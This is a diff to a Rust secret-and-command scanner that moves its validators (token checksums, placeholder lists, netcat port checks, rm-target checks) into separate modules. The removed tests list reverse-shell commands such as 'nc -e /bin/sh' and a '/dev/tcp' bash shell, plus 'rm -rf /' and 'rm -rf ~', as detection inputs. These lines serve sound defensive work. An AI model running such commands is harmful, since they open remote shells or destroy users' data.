@@ -1,10 +1,12 @@
 //! Checks of a secret without asking anybody: checksums, alphabets, structure, known example values. They
 //! say how likely a match is what its rule says; they never drop one.
 
-use data_encoding::BASE64URL_NOPAD;
-
 use super::mention::{MentionWords, is_mention};
-use super::{checksum, holds, national};
+use super::structure::{
+    aws_key_id, github_token, is_eth_address, is_json_web_token, is_known_example, is_mixed,
+    is_placeholder, is_prose, is_secp256k1_key, pem_body, slack_token,
+};
+use super::{checksum, commands, connections, holds, national};
 
 /// A match as its validators see it.
 #[derive(Clone, Copy, Debug, Default)]
@@ -15,6 +17,8 @@ pub struct Evidence<'a> {
     pub matched: &'a [u8],
     /// What is known of the line that the match stands in.
     pub line: &'a [u8],
+    /// What is known of that line in front of the match.
+    pub before: &'a [u8],
     /// The words in that line that tell a mention, if they were looked for already.
     pub mentions: Option<MentionWords>,
     /// What is known of what follows the match.
@@ -163,8 +167,8 @@ impl Validator {
             Validator::StripeTest => {
                 example_if(holds(secret, b"_test_") || holds(secret, b"-test-"))
             }
-            Validator::RmTarget => rm_target(evidence),
-            Validator::PortCheck => port_check(evidence.matched),
+            Validator::RmTarget => commands::rm_target(evidence),
+            Validator::PortCheck => connections::port_check(evidence),
             Validator::Placeholder => example_if(is_placeholder(secret)),
             Validator::Mention => unless(is_mention(evidence)),
             Validator::UsSsn => unless(!national::ssn(secret)),
@@ -185,7 +189,7 @@ impl Validator {
     }
 }
 
-fn checked(passes: bool) -> Verdict {
+pub(super) fn checked(passes: bool) -> Verdict {
     if passes { Verdict::Passes } else { Verdict::Fails }
 }
 
@@ -200,190 +204,6 @@ fn unless(fails: bool) -> Verdict {
 
 fn example_if(is_example: bool) -> Verdict {
     if is_example { Verdict::Example } else { Verdict::Silent }
-}
-
-/// `ghp_` and its like: 30 characters, then their checksum. Fine-grained tokens have none that is published.
-fn github_token(secret: &[u8]) -> Verdict {
-    let border = secret.iter().rposition(|byte| *byte == b'_');
-    let Some(token) = border.and_then(|at| secret.get(at + 1..)) else { return Verdict::Silent };
-    match token.split_at_checked(checksum::GITHUB_BODY_CHARS) {
-        Some((body, check)) if check.len() == 6 => checked(checksum::github(body) == check),
-        _ => Verdict::Silent,
-    }
-}
-
-/// Three parts in base64url, the first of them an object with an algorithm in it.
-fn is_json_web_token(secret: &[u8]) -> bool {
-    let parts: Vec<&[u8]> = secret.split(|byte| *byte == b'.').collect();
-    let [header, claims, _] = parts.as_slice() else { return false };
-    let decoded = |part: &[u8]| BASE64URL_NOPAD.decode(part).unwrap_or_default();
-    let (header, claims) = (decoded(header), decoded(claims));
-    header.starts_with(b"{") && holds(&header, b"\"alg\"") && claims.starts_with(b"{")
-}
-
-/// Four letters, then 16 of the base32 alphabet, which encode the account.
-fn aws_key_id(secret: &[u8]) -> Verdict {
-    if holds(secret, b"EXAMPLE") {
-        return Verdict::Example;
-    }
-    let is_base32 = |byte: &u8| byte.is_ascii_uppercase() || matches!(byte, b'2'..=b'7');
-    match secret.split_at_checked(4) {
-        Some((_, body)) if body.len() == 16 && body.iter().all(is_base32) && is_mixed(body) => {
-            Verdict::Passes
-        }
-        _ => Verdict::Fails,
-    }
-}
-
-/// Armour with key material behind its first line, or within the match.
-fn pem_body(evidence: &Evidence<'_>) -> Verdict {
-    const BODY_BYTES: usize = 24;
-    const NEAR_BYTES: usize = 300;
-    let near = evidence.after.get(..NEAR_BYTES).unwrap_or(evidence.after);
-    let is_material = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
-    let has_body =
-        |text: &[u8]| text.split(|byte| !is_material(byte)).any(|run| run.len() >= BODY_BYTES);
-    if has_body(near) || has_body(evidence.matched) {
-        return Verdict::Passes;
-    }
-    let is_cut = evidence.is_open && near.len() < NEAR_BYTES;
-    if is_cut { Verdict::Silent } else { Verdict::Fails }
-}
-
-/// What documentation, templates and tests have in a secret's place.
-fn is_known_example(secret: &[u8]) -> bool {
-    const WORDS: [&[u8]; 17] = [
-        // The claims of the token that jwt.io shows: {"sub":"1234567890
-        b"eyJzdWIiOiIxMjM0NTY3ODkw",
-        b"example",
-        b"xxxx",
-        b"1234567890",
-        b"0123456789",
-        b"abcdefghij",
-        b"placeholder",
-        b"changeme",
-        b"change_me",
-        b"redacted",
-        b"insert_",
-        b"insert-",
-        b"dummy",
-        b"****",
-        b"...",
-        b"deadbeef",
-        b"00000000",
-    ];
-    const OPENERS: [&[u8]; 5] = [b"<", b"${", b"{{", b"$(", b"%("];
-    WORDS.iter().any(|word| holds(secret, word))
-        || OPENERS.iter().any(|opener| secret.starts_with(opener))
-        || (holds(secret, b"your")
-            && [&b"here"[..], b"your-", b"your_"].iter().any(|word| holds(secret, word)))
-}
-
-/// What stands where a password would: a word for one, a variable, or one sign again and again.
-fn is_placeholder(secret: &[u8]) -> bool {
-    const WORDS: [&[u8]; 14] = [
-        b"password",
-        b"passwd",
-        b"passw0rd",
-        b"pass",
-        b"pwd",
-        b"secret",
-        b"token",
-        b"test",
-        b"user",
-        b"admin",
-        b"root",
-        b"postgres",
-        b"guest",
-        b"hunter2",
-    ];
-    let core = secret.trim_ascii();
-    let distinct = core.iter().filter(|byte| Some(*byte) != core.first()).count();
-    is_known_example(core)
-        || distinct == 0
-        || core.starts_with(b"$")
-        || core.starts_with(b"%")
-        || WORDS.iter().any(|word| word.eq_ignore_ascii_case(core))
-        || (holds(core, b"my") && holds(core, b"pass"))
-}
-
-fn is_eth_address(secret: &[u8]) -> bool {
-    let digits = secret.strip_prefix(b"0x").unwrap_or(secret);
-    digits.len() == 40
-        && digits.iter().all(u8::is_ascii_hexdigit)
-        && checksum::entropy(&digits.to_ascii_lowercase()) >= 2.5
-}
-
-/// The list that seed phrases are taken from has none of the words that every sentence has.
-fn is_prose(secret: &[u8]) -> bool {
-    const WORDS: [&[u8]; 16] = [
-        b"the", b"and", b"for", b"from", b"was", b"are", b"not", b"with", b"but", b"his", b"her",
-        b"its", b"were", b"which", b"their", b"would",
-    ];
-    secret
-        .split(|byte| !byte.is_ascii_alphabetic())
-        .any(|part| WORDS.iter().any(|word| word.eq_ignore_ascii_case(part)))
-}
-
-/// 32 bytes in hex, below the order of the curve, and not one sign again and again.
-fn is_secp256k1_key(secret: &[u8]) -> bool {
-    let digits = secret.strip_prefix(b"0x").unwrap_or(secret).to_ascii_lowercase();
-    digits.len() == 64
-        && digits.iter().all(u8::is_ascii_hexdigit)
-        && !digits.starts_with(&[b'f'; 32])
-        && checksum::entropy(&digits) >= 2.5
-}
-
-/// Words have letters alone, counters digits alone.
-fn is_mixed(secret: &[u8]) -> bool {
-    secret.iter().any(u8::is_ascii_digit) && secret.iter().any(u8::is_ascii_alphabetic)
-}
-
-/// `xoxb-`, then the workspace's number.
-fn slack_token(secret: &[u8]) -> Verdict {
-    let number = secret.split(|byte| *byte == b'-').nth(1).unwrap_or_default();
-    let is_number = (9..=14).contains(&number.len()) && number.iter().all(u8::is_ascii_digit);
-    if is_number { Verdict::Passes } else { Verdict::Silent }
-}
-
-/// Netcat that only asks whether a port is open (`-z`) carries nothing, unless it runs something, too.
-fn port_check(matched: &[u8]) -> Verdict {
-    let mut words = matched.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
-    let command = words.next().unwrap_or_default().to_ascii_lowercase();
-    let is_netcat = command.starts_with(b"nc") || command.starts_with(b"netcat");
-    let is_short = |word: &&[u8]| word.starts_with(b"-") && !word.starts_with(b"--");
-    let options: Vec<u8> = words.filter(is_short).flatten().copied().collect();
-    let runs = [b'e', b'c'].iter().any(|option| options.contains(option));
-    if is_netcat && options.contains(&b'z') && !runs { Verdict::Fails } else { Verdict::Silent }
-}
-
-/// What is deleted: the system or a home is worth an alarm, temporary and build folders are not.
-fn rm_target(evidence: &Evidence<'_>) -> Verdict {
-    const SCRATCH: [&[u8]; 8] = [
-        b"tmp/",
-        b"var/tmp/",
-        b"app/",
-        b"workspace/",
-        b"build/",
-        b"work/",
-        b"var/cache/",
-        b"var/lib/apt/",
-    ];
-    if !evidence.matched.ends_with(b"/") {
-        return Verdict::Passes;
-    }
-    let is_path = |byte: &&u8| byte.is_ascii_alphanumeric() || b"/._-*$".contains(byte);
-    let length = evidence.after.iter().take_while(is_path).count();
-    let mut path = evidence.after.get(..length).unwrap_or_default().to_ascii_lowercase();
-    if path.len() == evidence.after.len() && evidence.is_open {
-        return Verdict::Silent;
-    }
-    path.push(b'/');
-    if SCRATCH.iter().any(|folder| path.starts_with(folder)) {
-        return Verdict::Fails;
-    }
-    let depth = path.split(|byte| *byte == b'/').filter(|part| !part.is_empty()).count();
-    if depth <= 1 { Verdict::Passes } else { Verdict::Silent }
 }
 
 #[cfg(test)]
@@ -503,37 +323,5 @@ mod tests {
         assert_eq!(behind("pem_body", head, &body.replace('\n', "\\n"), false), Verdict::Passes);
         assert_eq!(behind("pem_body", head, " is how a key begins", false), Verdict::Fails);
         assert_eq!(behind("pem_body", head, "\nMII", true), Verdict::Silent);
-    }
-
-    #[test]
-    fn what_is_deleted_decides_how_bad_it_is() {
-        for (after, verdict) in [
-            ("", Verdict::Passes),
-            ("* ;", Verdict::Passes),
-            ("etc\n", Verdict::Passes),
-            ("tmp/x", Verdict::Fails),
-            ("tmp", Verdict::Fails),
-            ("home/me/project/build", Verdict::Silent),
-        ] {
-            assert_eq!(behind("rm_target", "rm -rf /", after, false), verdict, "{after}");
-        }
-        assert_eq!(behind("rm_target", "rm -rf /", "tm", true), Verdict::Silent);
-        assert_eq!(behind("rm_target", "rm -rf ~", "", false), Verdict::Passes);
-    }
-
-    #[test]
-    fn netcat_that_only_asks_for_a_port_is_hardly_a_shell() {
-        for (command, verdict) in [
-            ("nc -zv localhost 5432", Verdict::Fails),
-            ("nc -w 3 -z db 5432", Verdict::Fails),
-            ("netcat -z db 5432", Verdict::Fails),
-            ("nc -zv -e /bin/sh 10.0.0.1 4444", Verdict::Silent),
-            ("nc -e /bin/zsh 10.0.0.1 4444", Verdict::Silent),
-            ("nc 10.0.0.1 4444", Verdict::Silent),
-            ("bash -i >& /dev/tcp/10.0.0.1/80 -z", Verdict::Silent),
-        ] {
-            let matched = command.as_bytes();
-            assert_eq!(port_check(matched), verdict, "{command}");
-        }
     }
 }
